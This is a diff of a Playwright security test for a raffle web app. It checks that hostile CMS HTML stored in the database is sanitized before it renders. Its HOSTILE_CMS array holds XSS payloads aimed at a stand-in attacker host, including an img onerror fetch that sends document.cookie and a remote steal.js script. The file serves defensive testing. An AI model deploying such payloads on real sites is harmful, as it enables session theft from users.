@@ -1,6 +1,7 @@
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { expect, test, type Page } from '@playwright/test';
+import { announcements, raffles } from '../../server/db/schema';
 import {
   DEMO_PASSCODE,
   MEMBERS,
@@ -10,6 +11,7 @@ import {
   signIn,
   solveCaptcha,
 } from './auth-helpers';
+import { startSeededServer } from './seeded-server';
 
 /**
  * SECURITY-CHECKLIST checks that need a real browser: cross-site requests from an attacker's page
@@ -137,11 +139,11 @@ test.describe('redirect targets on /login (SEC-42)', () => {
 
 /** Payloads a compromised CMS could store; each would reach the attacker's host if it ran. */
 const HOSTILE_CMS = [
-  '<p id="cms-marker">Mechanics still shown</p>',
+  '<p class="cms-marker">Mechanics still shown</p>',
   `<img src=x onerror="fetch('https://${ATTACKER_HOST}/img?'+document.cookie);alert(1)">`,
   `<svg onload="new Image().src='https://${ATTACKER_HOST}/svg';alert(2)"></svg>`,
-  `<a id="js-link" href="javascript:fetch('https://${ATTACKER_HOST}/link');alert(3)">Claim your prize</a>`,
-  `<a id="tab-link" href="java&#x09;script:alert(4)">Mechanics</a>`,
+  `<a href="javascript:fetch('https://${ATTACKER_HOST}/link');alert(3)">Claim your prize</a>`,
+  `<a href="java&#x09;script:alert(4)">Mechanics</a>`,
   `<script src="https://${ATTACKER_HOST}/steal.js"></script>`,
   `<iframe src="https://${ATTACKER_HOST}/frame"></iframe>`,
   `<form action="https://${ATTACKER_HOST}/form"><button id="cms-button">Go</button></form>`,
@@ -153,6 +155,12 @@ const HOSTILE_CMS = [
 
 test.describe('hostile CMS HTML (SEC-43)', () => {
   test('runs nothing, calls no attacker host and leaves no on* attribute', async ({ page }) => {
+    test.setTimeout(90_000);
+    // Stored in the database of a server of its own, as a compromised CMS would store it.
+    const server = await startSeededServer(async (db) => {
+      await db.update(raffles).set({ description: HOSTILE_CMS });
+      await db.update(announcements).set({ body: HOSTILE_CMS, active: true });
+    });
     const dialogs: string[] = [];
     page.on('dialog', (dialog) => {
       dialogs.push(dialog.message());
@@ -163,40 +171,43 @@ test.describe('hostile CMS HTML (SEC-43)', () => {
       if (new URL(request.url()).hostname === ATTACKER_HOST) attackerRequests.push(request.url());
     });
     await page.route(`**/${ATTACKER_HOST}/**`, (route) => route.abort());
-    // The raffle's mechanics are CMS HTML: the real answer, with only that field replaced.
-    await page.route('**/api/v1/raffles/holiday-raffle-2026', async (route) => {
-      const answer = await route.fetch();
-      const raffle = (await answer.json()) as Record<string, unknown>;
-      await route.fulfill({ response: answer, json: { ...raffle, description: HOSTILE_CMS } });
-    });
+    try {
+      await page.goto(`${server.baseURL}/raffle/holiday-raffle-2026`);
+      const main = page.getByRole('main');
+      const announcement = page.getByRole('region', { name: 'Announcement' });
+      await expect(main.locator('.cms-marker')).toHaveText('Mechanics still shown');
+      await expect(announcement.locator('.cms-marker')).toHaveText('Mechanics still shown');
+      // Without its script URL a link is plain text; clicking it goes nowhere.
+      await main.getByText('Claim your prize').click();
+      await main.getByText('Mechanics', { exact: true }).click();
+      await announcement.getByText('Claim your prize').click();
 
-    await page.goto('/raffle/holiday-raffle-2026');
-    await expect(page.locator('#cms-marker')).toHaveText('Mechanics still shown');
-    // Without its script URL the link is plain text; clicking it goes nowhere.
-    await page.getByText('Claim your prize').click();
-    await page.getByText('Mechanics', { exact: true }).click();
-
-    const onAttributes = await page.evaluate(() =>
-      [...document.querySelectorAll('*')].flatMap((element) =>
-        [...element.attributes]
-          .filter((attribute) => attribute.name.toLowerCase().startsWith('on'))
-          .map((attribute) => `${element.tagName}[${attribute.name}]`),
-      ),
-    );
-    expect(onAttributes).toEqual([]);
-    await expect(
-      page.locator('script[src*="attacker"], iframe, form[action*="attacker"]'),
-    ).toHaveCount(0);
-    await expect(page.locator('meta[http-equiv]')).toHaveCount(0);
-    for (const link of ['#js-link', '#tab-link']) {
-      expect(await page.locator(link).evaluate((element) => element.hasAttribute('href'))).toBe(
-        false,
+      const onAttributes = await page.evaluate(() =>
+        [...document.querySelectorAll('*')].flatMap((element) =>
+          [...element.attributes]
+            .filter((attribute) => attribute.name.toLowerCase().startsWith('on'))
+            .map((attribute) => `${element.tagName}[${attribute.name}]`),
+        ),
       );
+      expect(onAttributes).toEqual([]);
+      await expect(
+        page.locator('script[src*="attacker"], iframe, form[action*="attacker"]'),
+      ).toHaveCount(0);
+      await expect(page.locator('meta[http-equiv]')).toHaveCount(0);
+      const scriptLinks = await page.evaluate(
+        () =>
+          [...document.querySelectorAll('[href]')].filter((element) =>
+            /script:/i.test(element.getAttribute('href') ?? ''),
+          ).length,
+      );
+      expect(scriptLinks).toBe(0);
+      await page.waitForTimeout(500);
+      expect(dialogs).toEqual([]);
+      expect(attackerRequests).toEqual([]);
+      await expect(page).toHaveURL(`${server.baseURL}/raffle/holiday-raffle-2026`);
+    } finally {
+      await server.stop();
     }
-    await page.waitForTimeout(500);
-    expect(dialogs).toEqual([]);
-    expect(attackerRequests).toEqual([]);
-    await expect(page).toHaveURL(/\/raffle\/holiday-raffle-2026$/);
   });
 });
 
